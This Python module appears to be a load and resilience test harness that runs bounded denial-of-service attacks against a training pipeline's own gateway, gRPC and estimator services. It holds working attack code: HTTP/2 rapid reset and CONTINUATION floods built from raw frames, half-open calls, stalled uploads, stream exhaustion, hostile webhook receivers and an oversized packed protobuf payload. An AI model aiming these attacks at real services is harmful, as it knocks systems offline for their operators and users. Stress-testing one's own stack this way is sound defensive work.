"""The attacks. Each runs for a bounded time against addresses of this machine and ends by itself."""

from __future__ import annotations

import asyncio
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass
from urllib.parse import urlsplit

import grpc
import httpx
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.exceptions import ProtocolError
from pipeline.workers.v1 import workers_pb2
from pipeline.workers.v1.workers_pb2_grpc import WorkerServiceStub

LIST_JOBS = "/pipeline.jobs.v1.JobsService/ListJobs"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Frame types and flags of RFC 9113.
HEADERS, CONTINUATION, SETTINGS = 0x1, 0x9, 0x4
END_STREAM, END_HEADERS = 0x1, 0x4
LINE = b'{"prompt": "question", "completion": "answer"}\n'


@dataclass(frozen=True)
class Target:
    """The addresses of a stack and what attackers have: tokens of users of their own."""

    gateway: str
    jobs: str
    estimator: str
    tokens: list[str]
    # A trainer's.
    worker: str


async def half_open_calls(target: Target, seconds: float) -> str:
    """X01: one token opens 300 calls without ever sending their message, again and again."""
    opened = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        connections = [await _connect(target.jobs) for _ in range(3)]
        for connection, _, writer in connections:
            for stream in range(1, 200, 2):
                connection.send_headers(stream, _headers(LIST_JOBS, target.tokens[0]))
                opened += 1
            writer.write(connection.data_to_send())
        await asyncio.sleep(min(10.0, max(0.0, end - time.monotonic())))
        for _, _, writer in connections:
            writer.close()
    return f"{opened} calls without a message"


async def watches(target: Target, seconds: float) -> str:
    """X02: every attacker opens as many event streams as it may."""
    url = urlsplit(target.gateway)
    statuses: list[int] = []

    async def watch(token: str) -> None:
        # Over a socket: with 2,000 connections of its own, an HTTP client's pool uses all of a processor and opens none.
        reader, writer = await asyncio.open_connection(url.hostname, url.port)
        try:
            head = f"GET /api/jobs/events HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer {token}\r\n\r\n"
            writer.write(head.encode())
            statuses.append(int((await reader.readline()).split()[1]))
            while await reader.read(1 << 16):
                pass
        finally:
            writer.close()

    await _for(seconds, (watch(token) for token in target.tokens for _ in range(50)))
    return f"streams by status: {dict(Counter(statuses))}"


async def held_uploads(target: Target, seconds: float) -> str:
    """X03: 600 uploads of 900 kB that stop before their end."""
    statuses: list[int] = []
    url = urlsplit(target.gateway)
    piece = LINE * (100_000 // len(LINE))

    async def upload(token: str, number: int) -> None:
        # Over a socket: HTTP clients look for a response once they have sent everything, and would see no early refusal.
        reader, writer = await asyncio.open_connection(url.hostname, url.port)
        response = asyncio.create_task(reader.readline())
        try:
            head = (
                f"POST /api/datasets?name=held-{number} HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer {token}\r\n"
                f"Content-Type: application/jsonl\r\nContent-Length: {10 * len(piece)}\r\n\r\n"
            )
            writer.write(head.encode())
            with suppress(ConnectionError):
                for _ in range(9):
                    writer.write(piece)
                    await writer.drain()
            statuses.append(int((await response).split()[1]))
        finally:
            response.cancel()
            writer.close()

    users = target.tokens
    await _for(seconds, (upload(users[number % len(users)], number) for number in range(600)))
    return f"{statuses.count(429)} of 600 refused with 429, {len(statuses) - statuses.count(429)} answered otherwise"


async def event_pages(target: Target, seconds: float) -> str:
    """X06: one user reads pages of a job's events, which have 20 MB of log lines, again and again, and replays its stream."""
    token, worker = target.tokens[0], [("authorization", f"Bearer {target.worker}")]
    headers = {"authorization": f"Bearer {token}"}
    read = 0
    async with (
        httpx.AsyncClient(base_url=target.gateway, timeout=30, headers=headers) as client,
        grpc.aio.insecure_channel(target.jobs) as channel,
    ):
        content = {"content": LINE * 100, "headers": {"content-type": "application/jsonl"}}
        dataset = (await client.post("/api/datasets?name=logs", **content)).json()["data"]["id"]  # type: ignore[arg-type]
        gpu = {"type": "A100-80GB", "count": 1}
        settings = {"batch_size": 4, "epochs": 3, "learning_rate": 5e-5, "rank": 16}
        job = {"dataset_id": dataset, "preset_id": "balanced", "hyperparameters": settings, "gpu_config": gpu}
        (await client.post("/api/jobs", json=job)).raise_for_status()
        workers = WorkerServiceStub(channel)
        offers = [workers_pb2.GpuOffer(**gpu)]
        request = workers_pb2.LeaseJobsRequest(max_jobs=1, gpus=offers, wait_ms=5_000)
        (lease,) = (await workers.LeaseJobs(request, metadata=worker)).leases
        for _ in range(100):
            report = workers_pb2.ReportProgressRequest(
                job_id=lease.job_id, lease_token=lease.lease_token, epoch=1, step=1, log_lines=["x" * 2_000] * 100
            )
            await workers.ReportProgress(report, metadata=worker)

        async def reader() -> None:
            nonlocal read
            while True:
                response = await client.get(f"/api/jobs/{lease.job_id}/event-log?limit=100")
                read += len(response.content)

        await _for(seconds, (reader() for _ in range(10)))
    return f"{read / 2**20:.0f} MiB of pages read"


async def slow_receivers(target: Target, seconds: float) -> str:
    """X04: webhooks of six users whose receivers send interim answers without end, headers without end, or nothing for 14 s."""
    sent = 0

    async def receive(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal sent
        sent += 1
        with suppress(OSError, asyncio.IncompleteReadError, asyncio.CancelledError):
            await reader.readuntil(b"\r\n\r\n")
            kind = sent % 3
            if kind == 0:
                while True:
                    writer.write(b"HTTP/1.1 100 Continue\r\n\r\n" * 1_000)
                    await writer.drain()
            if kind == 1:
                writer.write(b"HTTP/1.1 200 OK\r\n")
                while True:
                    writer.write(b"x-filler: " + b"x" * 8_000 + b"\r\n")
                    await writer.drain()
            await asyncio.sleep(14)
        writer.close()

    server = await asyncio.start_server(receive, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    async with httpx.AsyncClient(base_url=target.gateway, timeout=10) as client:

        async def provoke(token: str) -> None:
            headers = {"authorization": f"Bearer {token}"}
            hook = {"url": f"http://127.0.0.1:{port}/", "event_types": []}
            created = (await client.post("/api/webhooks", json=hook, headers=headers)).json()
            while True:
                await client.post(f"/api/webhooks/{created['data']['webhook']['id']}/test", json={}, headers=headers)
                await asyncio.sleep(0.5)

        await _for(seconds, map(provoke, target.tokens[:6]))
    server.close()
    return f"{sent} deliveries caught"


async def rapid_reset(target: Target, seconds: float) -> str:
    """X11, G11: streams without a token are opened and reset as fast as the connection takes them."""
    resets = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        connection, reader, writer = await _connect(target.jobs)
        with suppress(OSError, ProtocolError):
            for stream in range(1, 20_000, 2):
                connection.send_headers(stream, _headers(LIST_JOBS, ""))
                connection.reset_stream(stream)
                resets += 1
                if stream % 200 == 1:
                    writer.write(connection.data_to_send())
                    await writer.drain()
                    if time.monotonic() > end or reader.at_eof():
                        break
        writer.close()
    return f"{resets} streams reset"


async def continuation_flood(target: Target, seconds: float) -> str:
    """X11: header blocks that never end, on 20 connections."""
    sent = 0

    async def flood() -> None:
        nonlocal sent
        host, _, port = target.jobs.rpartition(":")
        while True:
            _, writer = await asyncio.open_connection(host, int(port))
            with suppress(OSError):
                writer.write(PREFACE + _frame(SETTINGS, 0, 0, b"") + _frame(HEADERS, END_STREAM, 1, b"\x82"))
                while True:
                    # A literal header field without indexing: a name of one byte, a value of 8,000.
                    writer.write(_frame(CONTINUATION, 0, 1, b"\x00\x01x\x7f\xc1\x3d" + b"v" * 8_000))
                    await writer.drain()
                    sent += 1
            writer.close()

    await _for(seconds, (flood() for _ in range(20)))
    return f"{sent} CONTINUATION frames"


async def packed_lists(target: Target, seconds: float) -> str:
    """L06: comparisons with four million packed GPU counts."""
    body = b"\x1a" + _varint(4_000_000) + b"\x01" * 4_000_000
    sent = 0
    end = time.monotonic() + seconds
    path = "/pipeline.estimator.v1.EstimatorService/CompareConfigurations"
    while time.monotonic() < end:
        connection, _, writer = await _connect(target.estimator)
        connection.send_headers(1, _headers(path, target.tokens[0]))
        frame = b"\0" + len(body).to_bytes(4, "big") + body
        with suppress(OSError, ProtocolError, TimeoutError):
            async with asyncio.timeout(5):
                while frame and time.monotonic() < end:
                    size = min(len(frame), connection.local_flow_control_window(1), 16_384)
                    if size:
                        connection.send_data(1, frame[:size])
                        frame = frame[size:]
                    writer.write(connection.data_to_send())
                    await writer.drain()
                    if not size:
                        await asyncio.sleep(0.01)
                        break
        sent += 1
        writer.close()
        await asyncio.sleep(0.05)
    return f"{sent} messages"


ATTACKS: Mapping[str, Callable[[Target, float], Awaitable[str]]] = {
    attack.__name__: attack
    for attack in (
        half_open_calls,
        watches,
        held_uploads,
        event_pages,
        slow_receivers,
        rapid_reset,
        continuation_flood,
        packed_lists,
    )
}


def run_attack(name: str, target: Target, seconds: float) -> str:
    """Runs an attack in this process and returns what it did."""
    return asyncio.run(ATTACKS[name](target, seconds))


async def _for(seconds: float, work: Iterator[Awaitable[None]]) -> None:
    """Runs everything at once and cancels what is left after `seconds`."""
    tasks = [asyncio.ensure_future(each) for each in work]
    await asyncio.wait(tasks, timeout=seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


async def _connect(address: str) -> tuple[H2Connection, asyncio.StreamReader, asyncio.StreamWriter]:
    url = urlsplit(f"//{address}")
    reader, writer = await asyncio.open_connection(url.hostname, url.port)
    connection = H2Connection(H2Configuration(client_side=True, validate_outbound_headers=False))
    connection.initiate_connection()
    writer.write(connection.data_to_send())
    return connection, reader, writer


def _headers(path: str, token: str) -> list[tuple[str, str]]:
    first = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "test")]
    headers = [*first, ("te", "trailers"), ("content-type", "application/grpc")]
    return [*headers, ("authorization", f"Bearer {token}")] if token else headers


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _varint(number: int) -> bytes:
    encoded = bytearray()
    while number > 0x7F:
        encoded.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*encoded, number])
